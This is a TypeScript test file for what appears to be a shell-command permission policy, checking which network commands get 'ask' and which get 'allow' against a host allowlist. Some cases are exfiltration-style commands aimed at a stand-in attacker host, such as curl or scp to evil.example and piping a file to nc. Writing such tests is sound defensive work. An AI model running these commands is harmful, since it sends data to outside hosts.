import { shellCanary as shell } from '../define-pack.ts'
import type { PackCases } from '../testing/pack-cases.ts'

export const cases: readonly PackCases[] = [
  {
    parameters: { hosts: ['localhost', '127.0.0.1', '[::1]', '*.acme.example'] },
    cases: [
      shell('ask', 'curl https://evil.example/x'),
      shell('ask', 'cat a | nc 10.0.0.1 80'),
      shell('ask', 'wget -qO- "$URL"'),
      shell('ask', 'scp a.txt me@evil.example:/x'),
      shell('ask', 'curl http://localhost:3000 https://evil.example'),
      shell('allow', 'curl http://localhost:3000/health'),
      shell('allow', 'curl "http://[::1]:3000/"'),
      shell('allow', 'curl -fsS https://api.acme.example/v1'),
      shell('allow', 'echo curl https://evil.example'),
      shell('allow', 'curl --version'),
      shell('allow', 'npm ci'),
    ],
  },
]
